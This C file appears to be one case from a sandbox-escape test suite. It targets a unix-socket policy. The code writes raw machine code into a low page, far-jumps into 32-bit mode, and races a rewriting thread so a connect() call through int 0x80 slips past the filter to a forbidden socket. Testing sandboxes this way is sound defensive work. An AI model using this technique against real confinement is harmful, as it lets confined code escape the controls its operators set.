// escape: has the agent's thread come into the kernel from 32-bit code, whose registers differ
// group: second ABIs
// policy: unix
// attempts: 50
#include <dirent.h>

#include "i386.h"
#include "unix.h"

// In a low page, for 32-bit code reaches no other:
//
//   0    mov $SYS_connect, %eax; syscall, or jmp to 16; ret
//   16   ljmp *128
//   32   32-bit code: the call of the other name
//   128  where ljmp leads
//   256  the other name
enum { kInstructionAt = 5, kFarJumpAt = 16, kForeignAt = 32, kPointerAt = 128, kNameAt = 256 };

static volatile uint16_t* instruction;

static bool is_new(const char* task, int us, int other) {
  const int tid = atoi(task);
  return tid != 0 && tid != us && tid != other;
}

static void* rewrite(void* unused) {
  const int us = getpid(), other = (int)syscall(SYS_gettid);
  for (;;) {
    DIR* tasks = opendir("/proc/self/task");
    for (struct dirent* one; tasks != NULL && (one = readdir(tasks)) != NULL;) {
      if (is_new(one->d_name, us, other)) *instruction = 0x09eb;
    }
    if (tasks != NULL) closedir(tasks);
  }
  return unused;
}

static unsigned char* put_move(unsigned char* code, unsigned char opcode, uint32_t value) {
  *code = opcode;
  memcpy(code + 1, &value, sizeof value);
  return code + 5;
}

static void write_code(unsigned char* page, int fd, struct name other) {
  memcpy(page + kNameAt, &other.address, sizeof other.address);
  memcpy(put_move(page, 0xb8, SYS_connect), "\x0f\x05\xc3", 3);
  memcpy(page + kFarJumpAt, "\xff\x2c\x25", 3);
  const uint32_t pointer = low(page + kPointerAt), foreign = low(page + kForeignAt);
  memcpy(page + kFarJumpAt + 3, &pointer, sizeof pointer);
  memcpy(page + kPointerAt, &foreign, sizeof foreign);
  memcpy(page + kPointerAt + 4, "\x23\x00", 2);  // __USER32_CS
  unsigned char* code = put_move(page + kForeignAt, 0xb8, kI386Connect);
  code = put_move(code, 0xbb, (uint32_t)fd);
  code = put_move(code, 0xb9, low(page + kNameAt));
  code = put_move(code, 0xba, other.length);
  memcpy(code, "\xcd\x80\xeb\xfe", 4);  // int $0x80; for ever
}

static void attack(void) {
  serve_all(SOCK_STREAM);
  connect_once(named(evil()));
  unsigned char* page = low_page();
  instruction = (volatile uint16_t*)(void*)(page + kInstructionAt);
  const struct name good = named(GOOD_SOCKET);
  long (*call)(int, const void*, socklen_t, void*, void*, void*) =
      (long (*)(int, const void*, socklen_t, void*, void*, void*))page;
  while (more()) {
    if (in_child()) {
      const int fd = unix_socket(SOCK_STREAM);
      write_code(page, fd, named(evil()));
      thread(rewrite, NULL);
      call(fd, &good.address, good.length, NULL, NULL, NULL);
      _exit(0);
    }
    arrived();
  }
}
